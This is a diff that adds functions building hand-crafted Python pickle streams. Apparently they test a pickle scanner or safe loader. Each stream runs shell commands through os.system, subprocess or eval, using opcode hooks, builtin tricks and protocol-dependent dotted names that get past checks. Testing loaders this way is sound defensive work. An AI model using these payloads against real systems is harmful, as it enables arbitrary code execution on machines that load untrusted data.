@@ -783,3 +783,97 @@ def sys_path_append(m: str, d: Path) -> bytes:
     """APPEND straight onto ``sys.path`` (no call): later imports may come from an attacker folder."""
     patch = glob("sys", "path") + sbu(str(d)) + pickle.APPEND + pickle.POP
     return p2(patch + const({"ok": 1}))
+
+
+# -- third wave: opcodes that call methods found on the object itself ---------------------------------------------
+
+
+def _namespace_with(attr: str, fn: bytes) -> bytes:
+    """``types.SimpleNamespace()`` whose instance attribute ``attr`` is ``fn`` (set by BUILD)."""
+    ns = call(glob("types", "SimpleNamespace"))
+    return ns + pickle.EMPTY_DICT + sbu(attr) + fn + pickle.SETITEM + pickle.BUILD
+
+
+def namespace_setstate_second_build(m: str, d: Path) -> bytes:
+    """First BUILD sets the instance attribute ``__setstate__ = os.system``; the second BUILD calls it with cmd."""
+    return p2(_namespace_with("__setstate__", glob("os", "system")) + sbu(shell(m)) + pickle.BUILD)
+
+
+def namespace_append_hook(m: str, d: Path) -> bytes:
+    """APPEND on a non-list calls its ``append`` attribute: here ``os.system``."""
+    return p2(_namespace_with("append", glob("os", "system")) + sbu(shell(m)) + pickle.APPEND)
+
+
+def namespace_extend_hook(m: str, d: Path) -> bytes:
+    """APPENDS on a non-list calls ``extend(items)``: ``subprocess.check_call(['touch', marker])``."""
+    ns = _namespace_with("extend", glob("subprocess", "check_call"))
+    return p2(ns + pickle.MARK + sbu("touch") + sbu(m) + pickle.APPENDS)
+
+
+def namespace_additems_hook(m: str, d: Path) -> bytes:
+    """ADDITEMS on a non-set calls its ``add`` attribute for each item."""
+    ns = _namespace_with("add", sglob("os", "system"))
+    return p4(ns + pickle.MARK + sbu(shell(m)) + pickle.ADDITEMS)
+
+
+def max_of_one_callable(m: str, d: Path) -> bytes:
+    """``max([os.system])`` returns its only element without comparing; then it is called."""
+    return p2(
+        call(call(glob("builtins", "max"), pickle.EMPTY_LIST + glob("os", "system") + pickle.APPEND), sbu(shell(m)))
+    )
+
+
+def next_iter_callable(m: str, d: Path) -> bytes:
+    it = call(glob("builtins", "iter"), tup(glob("os", "system")))
+    return p2(call(call(glob("builtins", "next"), it), sbu(shell(m))))
+
+
+def list_pop_callable(m: str, d: Path) -> bytes:
+    lst = pickle.EMPTY_LIST + glob("os", "system") + pickle.APPEND
+    return p2(call(_call_method(lst, "pop"), sbu(shell(m))))
+
+
+def dict_get_callable(m: str, d: Path) -> bytes:
+    table = pickle.EMPTY_DICT + sbu("k") + glob("os", "system") + pickle.SETITEM
+    return p2(call(_call_method(table, "get", sbu("k")), sbu(shell(m))))
+
+
+def map_operator_call(m: str, d: Path) -> bytes:
+    """``list(map(operator.call, [os.system], [cmd]))``: the dangerous callable is data for map."""
+    fns = pickle.EMPTY_LIST + glob("os", "system") + pickle.APPEND
+    lazy = call(glob("builtins", "map"), glob("operator", "call"), fns, const([shell(m)]))
+    return p2(call(glob("builtins", "list"), lazy))
+
+
+def dict_zip_map(m: str, d: Path) -> bytes:
+    lazy = call(glob("builtins", "map"), glob("os", "system"), const([shell(m)]))
+    return p2(call(glob("builtins", "dict"), call(glob("builtins", "zip"), const(["k"]), lazy)))
+
+
+# -- protocol-dependent name resolution (find_class walks dotted names only when proto >= 4) ---------------------
+
+
+def dotted_global_proto2(m: str, d: Path) -> bytes:
+    """``GLOBAL builtins eval.__call__`` in a protocol-2 stream: getattr(builtins, 'eval.__call__') fails."""
+    return p2(ccall(glob("builtins", "eval.__call__"), code(m)))
+
+
+def dotted_stack_global_proto2(m: str, d: Path) -> bytes:
+    """STACK_GLOBAL with a dotted name but PROTO 2: the loader does not walk the dots."""
+    return p2(ccall(sglob("os", "path.os.system"), shell(m)))
+
+
+def dotted_global_no_proto(m: str, d: Path) -> bytes:
+    """Protocol 0 (no PROTO opcode) text GLOBAL with a dotted name: refused."""
+    return b"cos\npath.os.system\n(" + string0(shell(m)) + b"tR."
+
+
+def proto_switch_mid_stream(m: str, d: Path) -> bytes:
+    """Header says PROTO 2; a second PROTO 4 later enables dotted lookups for the GLOBAL that follows."""
+    body = const({"decoy": 1}) + pickle.POP + pickle.PROTO + bytes([4]) + ccall(glob("os", "path.os.system"), shell(m))
+    return p2(body)
+
+
+def proto4_text_global_dotted(m: str, d: Path) -> bytes:
+    """PROTO 4 with the protocol-0 text GLOBAL opcode and a dotted name: walked, runs."""
+    return p4(ccall(glob("os", "path.os.system"), shell(m)))
